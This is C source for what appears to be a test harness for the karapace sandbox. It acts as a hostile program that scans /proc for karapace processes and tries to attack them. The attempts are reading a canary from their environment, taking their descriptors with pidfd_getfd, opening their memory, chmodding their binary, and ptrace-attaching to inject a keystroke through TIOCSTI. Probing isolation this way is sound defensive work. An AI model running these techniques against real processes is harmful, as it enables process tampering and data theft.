/* A hostile program of an environment: looks for processes of karapace inside and takes from them what it can get.
 *
 *   poll CANARY DEVICE:INODE PROGRAM-DEVICE:PROGRAM-INODE
 *
 * CANARY stands in the environment of the caller, the first pair is a directory of the host that the caller has open, the
 * second is karapace's own program. One line for each kind of success goes to standard output, "KIND PID COMM DETAIL";
 * nothing else does but the line "ready". The kinds:
 *
 *   environ  the canary was read from a process
 *   fd       a descriptor leads to that directory, or one of a process of karapace was looked at
 *   exe      karapace's program was opened
 *   memory   memory, root or namespaces of a process of karapace were opened, or a descriptor taken from it
 *   trace    a process of karapace was attached to
 *   inject   and made to type into its terminal
 *   adjust   a setting of a process of karapace was changed
 *
 * A process is karapace's if it bears its name after what was tried has succeeded: a name only changes away from it, when
 * the command is executed, and what was opened before that is the monitor's. What the kernel lets through a little before
 * the name changes, or of any process that is about to be gone (it has no memory any more that could be closed), counts only
 * if the program is karapace's too.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/kcmp.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define TARGETS 64
/* How far ahead of the greatest process id the next ones are looked for. */
#define AHEAD 12
#define PIDS 65536
/* How often one that stays is attacked: long after its beginning it is as open as it will ever be. */
#define PATIENCE 300

enum { ENVIRON, FD, EXE, MEMORY, TRACE, INJECT, ADJUST, KINDS };
static const char *const names[KINDS] = {"environ", "fd", "exe", "memory", "trace", "inject", "adjust"};

static const char *canary;
static unsigned long long host_device, host_inode, program_device, program_inode;
static pid_t own;
/* What was told of each process already, a bit for each kind: before and after it has become the decoy. */
static unsigned char told[2][PIDS];
/* Processes that are looked at again and again while they live and bear karapace's name. */
static pid_t targets[TARGETS];
static unsigned short attacked[PIDS];

static void read_comm(pid_t pid, char *comm, size_t size)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/comm", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    ssize_t got = fd < 0 ? -1 : read(fd, comm, size - 1);
    if (fd >= 0)
        close(fd);
    comm[got > 0 ? got : 0] = 0;
    comm[strcspn(comm, "\n")] = 0;
    for (char *c = comm; *c; c++)
        if (*c == ' ')
            *c = '_';
}

static int is_karapace(pid_t pid)
{
    char comm[32];
    read_comm(pid, comm, sizeof comm);
    return strncmp(comm, "karapace", 8) == 0;
}

/* The same, and it executes karapace's program, which we may look at. */
static int is_open(pid_t pid)
{
    char path[64], comm[32];
    struct stat found;
    read_comm(pid, comm, sizeof comm);
    if (strcmp(comm, "karapace-decoy") == 0)
        return 1;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    return stat(path, &found) == 0 && found.st_dev == program_device && found.st_ino == program_inode;
}

/* Whether this was told of it, by the name that it has now. */
static unsigned char *told_of(pid_t pid, const char *comm)
{
    return &told[strcmp(comm, "karapace-decoy") == 0][(unsigned)pid % PIDS];
}

/* Its name, or the last that it was seen with where it is gone. */
static void known_comm(pid_t pid, char *comm, size_t size)
{
    static char last[32];
    static pid_t whose;
    read_comm(pid, comm, size);
    if (*comm) {
        snprintf(last, sizeof last, "%s", comm);
        whose = pid;
    } else if (whose == pid) {
        snprintf(comm, size, "%s", last);
    }
}

static int tell(int kind, pid_t pid, const char *format, ...)
{
    char comm[32], line[512];
    known_comm(pid, comm, sizeof comm);
    unsigned char *kinds = told_of(pid, comm);
    if (*kinds & 1 << kind)
        return 1;
    int length = snprintf(line, sizeof line, "%s %d %s ", names[kind], pid, *comm ? comm : "-");
    va_list arguments;
    va_start(arguments, format);
    length += vsnprintf(line + length, sizeof line - length - 1, format, arguments);
    va_end(arguments);
    if (length > (int)sizeof line - 2)
        length = sizeof line - 2;
    line[length++] = '\n';
    *kinds |= 1 << kind;
    return write(1, line, length) == length;
}

static int open_of(pid_t pid, const char *what, int flags)
{
    char path[96];
    snprintf(path, sizeof path, "/proc/%d/%s", pid, what);
    return open(path, flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
}

static void look_at_environ(pid_t pid)
{
    static const char *const paths[] = {"environ", "task/%d/environ"};
    for (int i = 0; i < 2; i++) {
        char what[48], text[1 << 16];
        snprintf(what, sizeof what, paths[i], pid);
        int fd = open_of(pid, what, O_RDONLY);
        if (fd < 0)
            continue;
        ssize_t got, length = 0;
        while (length < (ssize_t)sizeof text && (got = read(fd, text + length, sizeof text - length)) > 0)
            length += got;
        close(fd);
        if (length > 0 && memmem(text, length, canary, strlen(canary)))
            tell(ENVIRON, pid, "%s has the caller's variables", what);
    }
}

static void look_at_descriptors(pid_t pid)
{
    char path[64], link[256];
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *dir = opendir(path);
    if (!dir)
        return;
    for (struct dirent *entry; (entry = readdir(dir));) {
        if (entry->d_name[0] == '.')
            continue;
        struct stat found;
        ssize_t length = readlinkat(dirfd(dir), entry->d_name, link, sizeof link - 1);
        if (length < 0)
            continue;
        link[length] = 0;
        if (fstatat(dirfd(dir), entry->d_name, &found, 0) == 0 && found.st_dev == host_device &&
            found.st_ino == host_inode) {
            int fd = openat(dirfd(dir), entry->d_name, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
            tell(FD, pid, "descriptor %s is the host's directory%s", entry->d_name, fd >= 0 ? ", opened" : "");
            if (fd >= 0)
                close(fd);
        } else if (is_open(pid) || (atoi(entry->d_name) > 2 && is_karapace(pid) && !strstr(link, ":["))) {
            tell(FD, pid, "descriptor %s is %s", entry->d_name, link);
        }
    }
    closedir(dir);
}

static void look_at_program(pid_t pid)
{
    int fd = open_of(pid, "exe", O_RDONLY);
    if (fd < 0)
        return;
    struct stat found;
    if (fstat(fd, &found) == 0 && found.st_dev == program_device && found.st_ino == program_inode) {
        int changed = fchmod(fd, 01755);
        tell(EXE, pid, "the host's program is open%s", changed == 0 ? ", and its mode was changed" : "");
    }
    close(fd);
}

static void look_at_memory(pid_t pid)
{
    static const char *const opened[] = {"mem", "maps", "pagemap", "stack", "syscall", "auxv", "io", "personality"};
    for (size_t i = 0; i < sizeof opened / sizeof *opened; i++) {
        int fd = open_of(pid, opened[i], O_RDONLY);
        char byte[64];
        /* Some are checked when they are opened, others when they are read. */
        ssize_t got = fd < 0 ? -1 : i == 0 ? 0 : read(fd, byte, sizeof byte);
        if (fd >= 0)
            close(fd);
        /* Without a program's own memory auxv and the like are empty, and open to all. */
        if (fd >= 0 && (i == 0 ? is_karapace(pid) : got > 0 && is_open(pid))) {
            tell(MEMORY, pid, "%s is open", opened[i]);
            return;
        }
    }
    static const char *const links[] = {"cwd", "root", "ns/user", "ns/mnt", "ns/pid", "ns/net", "ns/cgroup", "ns/time"};
    for (size_t i = 0; i < sizeof links / sizeof *links; i++) {
        int fd = open_of(pid, links[i], O_RDONLY);
        if (fd >= 0 && is_open(pid))
            tell(MEMORY, pid, "%s is open", links[i]);
        if (fd >= 0)
            close(fd);
    }
    char byte;
    struct iovec local = {&byte, 1}, remote = {(void *)1, 1};
    /* That nothing is there is found after that one may look. */
    if ((syscall(SYS_process_vm_readv, pid, &local, 1L, &remote, 1L, 0L) >= 0 || errno == EFAULT) && is_karapace(pid))
        tell(MEMORY, pid, "process_vm_readv is let through");
    int process = syscall(SYS_pidfd_open, pid, 0);
    for (int number = 0; process >= 0 && number < 10; number++) {
        struct stat found;
        int fd = syscall(SYS_pidfd_getfd, process, number, 0);
        if (fd < 0 && errno != EBADF)
            break;
        if (fd >= 0 && fstat(fd, &found) == 0) {
            if (found.st_dev == host_device && found.st_ino == host_inode)
                tell(FD, pid, "descriptor %d is the host's directory, taken", number);
            else if (is_open(pid) || (number > 2 && S_ISDIR(found.st_mode) && is_karapace(pid)))
                tell(MEMORY, pid, "pidfd_getfd gave descriptor %d", number);
        }
        if (fd >= 0)
            close(fd);
    }
    if (process >= 0)
        close(process);
    if (syscall(SYS_kcmp, own, pid, KCMP_VM, 0L, 0L) >= 0 && is_open(pid))
        tell(MEMORY, pid, "kcmp compares");
}

/* Waits for a stop of a process that is traced; false when there is none soon. */
static int stopped(pid_t pid)
{
    for (int i = 0; i < 2000; i++) {
        int status;
        pid_t found = waitpid(pid, &status, __WALL | WNOHANG);
        if (found == pid)
            return WIFSTOPPED(status);
        if (found < 0)
            return 0;
        usleep(50);
    }
    return 0;
}

/* Makes a process that is stopped, and has a terminal, type a character into it. */
static void type_into_terminal(pid_t pid)
{
#if defined(__x86_64__)
    char path[64];
    struct stat input;
    snprintf(path, sizeof path, "/proc/%d/fd/0", pid);
    if (stat(path, &input) != 0 || !S_ISCHR(input.st_mode) || input.st_rdev >> 8 < 136 || input.st_rdev >> 8 > 143)
        return;
    struct user_regs_struct before, registers;
    if (ptrace(PTRACE_GETREGS, pid, 0, &before) != 0)
        return;
    errno = 0;
    unsigned long place = before.rsp - 512;
    long old = ptrace(PTRACE_PEEKDATA, pid, place, 0), code = ptrace(PTRACE_PEEKDATA, pid, before.rip - 2, 0);
    /* It was stopped in a system call, after the instruction `syscall`. */
    if (errno == 0 && (code & 0xffff) == 0x050f && ptrace(PTRACE_POKEDATA, pid, place, (old & ~0xffL) | '#') == 0) {
        registers = before;
        registers.rip -= 2;
        registers.rax = SYS_ioctl;
        registers.rdi = 0;
        registers.rsi = TIOCSTI;
        registers.rdx = place;
        registers.orig_rax = -1;
        if (ptrace(PTRACE_SETREGS, pid, 0, &registers) == 0 && ptrace(PTRACE_SINGLESTEP, pid, 0, 0) == 0 && stopped(pid) &&
            ptrace(PTRACE_GETREGS, pid, 0, &registers) == 0 && registers.rax == 0)
            tell(INJECT, pid, "typed into its terminal");
        ptrace(PTRACE_POKEDATA, pid, place, old);
        ptrace(PTRACE_SETREGS, pid, 0, &before);
    }
#else
    (void)pid;
#endif
}

static void trace(pid_t pid)
{
    char comm[32];
    read_comm(pid, comm, sizeof comm);
    if (*told_of(pid, comm) & 1 << TRACE || !is_karapace(pid) || ptrace(PTRACE_SEIZE, pid, 0, 0) != 0)
        return;
    if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) == 0 && stopped(pid)) {
        if (is_karapace(pid)) {
            tell(TRACE, pid, "attached");
            type_into_terminal(pid);
        }
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
}

static void adjust(pid_t pid)
{
    if (!is_karapace(pid))
        return;
    static const char *const files[] = {"oom_score_adj", "clear_refs", "coredump_filter"};
    static const char *const values[] = {"1", "1", "33"};
    for (int i = 0; i < 3; i++) {
        int fd = open_of(pid, files[i], O_WRONLY);
        if (fd < 0)
            continue;
        if (write(fd, values[i], strlen(values[i])) > 0 && is_open(pid))
            tell(ADJUST, pid, "%s was written", files[i]);
        close(fd);
    }
}

static void (*const attacks[])(pid_t) = {look_at_environ, look_at_program, look_at_descriptors, look_at_memory, trace, adjust};
#define ATTACKS (sizeof attacks / sizeof *attacks)

/* Tries everything once, another thing first each time, for there may be time for one only. */
static void attack(pid_t pid)
{
    static unsigned turn;
    char comm[32];
    known_comm(pid, comm, sizeof comm);
    turn++;
    for (size_t i = 0; i < ATTACKS; i++)
        attacks[(turn + i) % ATTACKS](pid);
}

static void meet(pid_t pid)
{
    if (pid == own)
        return;
    attack(pid);
    if (!is_karapace(pid) || pid >= PIDS || attacked[pid] >= PATIENCE)
        return;
    for (int i = 0; i < TARGETS; i++)
        if (targets[i] == pid)
            return;
    for (int i = 0; i < TARGETS; i++)
        if (!targets[i]) {
            targets[i] = pid;
            return;
        }
}

static int lives(pid_t pid)
{
    char path[32];
    snprintf(path, sizeof path, "/proc/%d", pid);
    return access(path, F_OK) == 0;
}

/* The greatest process id there is now. */
static pid_t scan(void)
{
    pid_t greatest = 0;
    DIR *proc = opendir("/proc");
    if (!proc)
        return 0;
    for (struct dirent *entry; (entry = readdir(proc));) {
        pid_t pid = atoi(entry->d_name);
        if (pid > greatest)
            greatest = pid;
        if (pid > 0)
            meet(pid);
    }
    closedir(proc);
    return greatest;
}

int main(int argc, char **argv)
{
    if (argc != 4 || sscanf(argv[2], "%llu:%llu", &host_device, &host_inode) != 2 ||
        sscanf(argv[3], "%llu:%llu", &program_device, &program_inode) != 2)
        return 2;
    canary = argv[1];
    own = getpid();
    sigset_t all;
    sigfillset(&all);
    sigprocmask(SIG_BLOCK, &all, 0);
    pid_t last = scan();
    if (write(1, "ready\n", 6) != 6)
        return 1;
    for (unsigned long round = 0;; round++) {
        for (pid_t pid = last + 1; pid <= last + AHEAD; pid++)
            if (lives(pid)) {
                meet(pid);
                last = pid;
            }
        for (int i = 0; i < TARGETS; i++)
            if (targets[i]) {
                attack(targets[i]);
                if (++attacked[targets[i]] >= PATIENCE || !lives(targets[i]) || !is_karapace(targets[i]))
                    targets[i] = 0;
            }
        if (round % 4096 == 0) {
            pid_t greatest = scan();
            last = greatest > last || last - greatest > PIDS / 4 ? greatest : last;
        }
    }
}
